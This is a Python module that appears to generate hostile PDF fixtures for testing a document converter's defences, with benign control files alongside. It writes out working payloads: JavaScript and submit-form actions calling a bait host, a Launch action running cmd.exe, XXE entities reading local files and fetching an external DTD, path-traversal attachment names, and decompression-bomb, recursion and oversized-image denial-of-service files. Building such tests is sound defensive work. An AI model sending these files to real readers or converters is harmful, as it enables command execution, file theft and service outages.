# ruff: noqa: E501 - a payload reads best in one piece
"""PDF that loops, swells, and carries what should not run (recipe 10)."""

from __future__ import annotations

import zlib

from makers.attack import ANY, CONVERTED, EITHER, LARGE, Attack, Bait, Twin, ends
from makers.packages import deflated_zeros


def pdf(objects: dict[int, str | bytes], *, root: int = 1) -> bytes:
    """Objects by number, a table, a trailer."""
    made, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(made)
        made += f"{number} 0 obj\n".encode() + (body if isinstance(body, bytes) else body.encode()) + b"\nendobj\n"
    start = len(made)
    made += f"xref\n0 {max(objects) + 1}\n0000000000 65535 f \n".encode()
    for number in range(1, max(objects) + 1):
        made += f"{places[number]:010} 00000 n \n".encode() if number in places else b"0000000000 65535 f \n"
    made += f"trailer <</Size {max(objects) + 1}/Root {root} 0 R>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(made)


def stream(data: bytes, entries: str = "") -> bytes:
    return f"<<{entries}/Length {len(data)}>>stream\n".encode() + data + b"\nendstream"


_TEXT = b"BT /F 20 Tf 20 100 Td (Harmless) Tj ET"
_FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def page(
    *,
    catalog: str = "",
    on_page: str = "",
    content: bytes | None = None,
    resources: str = "",
    box: str = "0 0 300 300",
    more: dict[int, str | bytes] | None = None,
) -> bytes:
    """One page with a word on it. Objects from 10 on are free."""
    return pdf({
        1: f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>{resources}>>{on_page}>>",
        4: content if content is not None else stream(_TEXT),
        5: _FONT,
        **(more or {}),
    })  # fmt: skip


def _active(bait: Bait) -> bytes:
    script = f"app.launchURL('{bait.url}/js',true);this.submitForm('{bait.url}/f');"
    actions = [
        f"<</S/JavaScript/JS({script})>>", f"<</S/Launch/F({bait.file})/Win<</F(cmd.exe)/P(/c touch {bait.pwned})>>>>",
        f"<</S/URI/URI({bait.url}/u)>>", f"<</S/SubmitForm/F<</FS/URL/F({bait.url}/s)>>/Flags 4>>",
        f"<</S/GoToR/F({bait.file})/D[0/Fit]>>", f"<</S/ImportData/F({bait.file})>>", f"<</S/GoToE/F<</FS/URL/F({bait.url}/e)>>>>",
    ]  # fmt: skip
    notes = "".join(
        f"<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A {action}/AA<</PO {action}/PV {action}>>>>"
        for action in actions
    )
    movie = (
        f"<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F({bait.url}/m)>>>><</Type/Annot/Subtype/Sound/Rect[0 0 9 9]/Sound "
        f"<</F({bait.file})>>>><</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F({bait.file})/UF({bait.file})>>>>"
    )
    return page(
        catalog=f"/OpenAction {actions[0]}/AA<</WC {actions[1]}>>/Names<</JavaScript<</Names[(a){actions[0]}]>>/EmbeddedFiles"
                f"<</Names[(../../{bait.pwned_name})<</F(../../{bait.pwned_name})/UF({bait.pwned})/EF<</F 10 0 R>>>>]>>>>",
        on_page=f"/Annots[{notes}{movie}]/AA<</O {actions[1]}/C {actions[3]}>>",
        more={10: stream(b"MZ harmless", "/Type/EmbeddedFile")},
    )  # fmt: skip


def _external(bait: Bait) -> bytes:
    """Streams whose bytes lie in another file, a page from another file, and picture alternates behind an address."""
    places = [*(f"({path})" for path in bait.files), *(f"<</FS/URL/F({url}/p)>>" for url in bait.urls)]
    pictures = {
        10 + n: stream(
            b"", f"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F {place}"
        )
        for n, place in enumerate(places)
    }
    forms = {
        40 + n: stream(b"", f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F {place}/Ref<</F {place}/Page 0>>/OPI<</2.0<</Type/OPI/F "
                            f"{place}/Version 2.0>>>>")
        for n, place in enumerate(places)
    }  # fmt: skip
    names = "".join(f"/X{n} {n} 0 R" for n in (*pictures, *forms))
    draw = _TEXT + b"".join(b" q 50 0 0 50 0 0 cm /X%d Do Q" % n for n in (*pictures, *forms))
    return page(content=stream(draw), resources=f"/XObject<<{names}>>", more={**pictures, **forms})


def _xfa(bait: Bait) -> bytes:
    form = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait.file}"><!ENTITY % p SYSTEM "{bait.url}/x"> %p;]><xdp:xdp xmlns:xdp="http://'
        f'ns.adobe.com/xdp/"><template><subform><field><value><text>&e;</text></value></field></subform></template></xdp:xdp>'
    )
    packet = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait.file}">]><x>&e;</x>'
    return page(
        catalog="/AcroForm<</XFA 10 0 R/Fields[]>>/Metadata 11 0 R",
        more={10: stream(form.encode()), 11: stream(packet.encode(), "/Type/Metadata/Subtype/XML")},
    )


def _cycle() -> bytes:
    return pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 5>>",
                3: "<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 5>>"})  # fmt: skip


def _many_pages() -> bytes:
    return pdf({
        1: "<</Type/Catalog/Pages 2 0 R>>", 2: f"<</Type/Pages/Kids[{'3 0 R ' * 200_000}]/Count 200000>>",
        3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    })  # fmt: skip


def _filters() -> bytes:
    data = deflated_zeros(256 << 20)
    for _ in range(3):
        data = zlib.compress(data, 9)
    return page(content=stream(data, "/Filter[/FlateDecode/FlateDecode/FlateDecode/FlateDecode]"))


def _image(entries: str, data: bytes) -> bytes:
    return page(
        content=stream(_TEXT + b" q 300 0 0 300 0 0 cm /X Do Q"), resources="/XObject<</X 10 0 R>>",
        more={10: stream(data, f"/Type/XObject/Subtype/Image{entries}")},
    )  # fmt: skip


def _jbig2() -> bytes:
    header = b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\x7f\xff\xff\xff\x7f\xff\xff\xff" + b"\0" * 11
    return _image(
        "/Width 2147483647/Height 2147483647/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode", header
    )


def _jpx() -> bytes:
    siz = (
        b"\xff\x4f\xff\x51\0\x2f\0\0"
        b"\x7f\xff\xff\xff\x7f\xff\xff\xff" + b"\0" * 8 + b"\0\0\0\x01\0\0\0\x01" + b"\0" * 8 + b"\0\3" + b"\7\1\1" * 3
    )
    return _image("/Width 2147483647/Height 2147483647/Filter/JPXDecode", siz)


def _forms() -> bytes:
    """A form that draws the next one twice, and the last one the first."""
    more = {
        10 + n: stream(
            b"/X Do /X Do",
            f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {11 + n if n < 40 else 10} 0 R>>>>",
        )
        for n in range(41)
    }
    return page(content=stream(_TEXT + b" /X Do"), resources="/XObject<</X 10 0 R>>", more=more)


def _function() -> bytes:
    """A type 4 function of many nested branches, in a shading over the whole page."""
    program = b"{" + b"dup 0 gt {" * 5000 + b"1" + b"} {0} ifelse" * 5000 + b"}"
    more = {10: stream(program, "/FunctionType 4/Domain[0 1 0 1]/Range[0 1]"),
            11: "<</ShadingType 1/ColorSpace/DeviceGray/Function 10 0 R/Domain[0 1 0 1]>>"}  # fmt: skip
    return page(content=stream(_TEXT + b" /S sh"), resources="/Shading<</S 11 0 R>>", more=more)


def _notes() -> bytes:
    return page(on_page=f"/Annots[{'<</Subtype/Square/Rect[0 0 9 9]>>' * 100_000}]")


_TARGETS = ("png", "txt")
_PAGES = LARGE | {CONVERTED, "corrupt_input"}

ATTACKS = (
    Attack("pdf-active", "a.pdf", _active, ("png", "html", "docx", "svg", "ps"), ("B28",)),
    Attack("pdf-external-streams", "a.pdf", _external, ("png", "svg", "docx"), ("B28",), EITHER),
    Attack("pdf-xfa", "a.pdf", _xfa, ("png", "txt"), ("B27", "B23")),
    Attack("pdf-page-cycle", "a.pdf", lambda _: _cycle(), ("png", "svg"), ("B27",), ANY),
    Attack("pdf-200000-pages", "a.pdf", lambda _: _many_pages(), ("txt", "svg", "docx"), ("B27",), _PAGES),
    Attack("pdf-filters", "a.pdf", lambda _: _filters(), ("png", "svg"), ("B27",), ANY),
    Attack("pdf-vast-page", "a.pdf", lambda _: page(box="0 0 10000000 10000000"), ("png", "svg"), ("B27",), ANY),
    Attack("pdf-jbig2", "a.pdf", lambda _: _jbig2(), _TARGETS, ("B27",), ANY),
    Attack("pdf-jpx", "a.pdf", lambda _: _jpx(), _TARGETS, ("B27",), ANY),
    Attack("pdf-forms", "a.pdf", lambda _: _forms(), ("png", "svg"), ("B27",), ANY),
    Attack("pdf-function", "a.pdf", lambda _: _function(), ("png",), ("B27",), ANY),
    Attack("pdf-annotations", "a.pdf", lambda _: _notes(), ("png", "html"), ("B27",), ANY),
    Attack("pdf-deep-array", "a.pdf", lambda _: page(catalog="/X " + "[" * 100_000), ("png", "txt", "svg"), ("B27", "B31"), ANY),
    Attack("pdf-no-end", "a.pdf", lambda _: page()[:-400], ("png",), ("B31",), ends("corrupt_input", CONVERTED)),
)  # fmt: skip

TWINS = (
    Twin("pdf with a link and a file in it", "a.pdf", lambda: page(
        on_page="/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org/)>>>>]",
        catalog="/Names<</EmbeddedFiles<</Names[(a)<</F(a)/EF<</F 10 0 R>>>>]>>>>", more={10: stream(b"hi")}), "txt", "Harmless", ("B28",)),
    Twin("pdf with a filter", "a.pdf", lambda: page(content=stream(zlib.compress(_TEXT), "/Filter/FlateDecode")), "html", "Harmless", ("B27",)),
)  # fmt: skip
